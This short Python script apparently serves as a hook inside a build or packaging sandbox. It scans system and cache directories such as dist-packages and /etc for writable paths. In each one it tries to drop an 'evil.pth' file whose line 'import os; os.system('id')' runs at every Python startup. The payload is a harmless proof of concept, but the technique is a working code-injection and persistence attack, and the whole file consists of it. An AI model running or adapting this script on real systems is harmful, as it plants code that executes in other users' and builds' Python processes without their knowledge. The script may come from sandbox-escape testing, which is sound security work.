import glob
import os


def after(folder, filename):
    for place in ("/wheelhouse", "/cache", "/tools", "/inside", "/usr/lib/python3/dist-packages", "/sdist", "/etc"):
        try:
            for path in (place, *glob.glob(f"{place}/**", recursive=True)[:200]):
                if os.access(path, os.W_OK):
                    print("WRITABLE", path)
            with open(f"{place}/evil.pth", "w") as file:
                file.write("import os; os.system('id')")
            print("WROTE", place)
        except OSError as err:
            print(place, err)
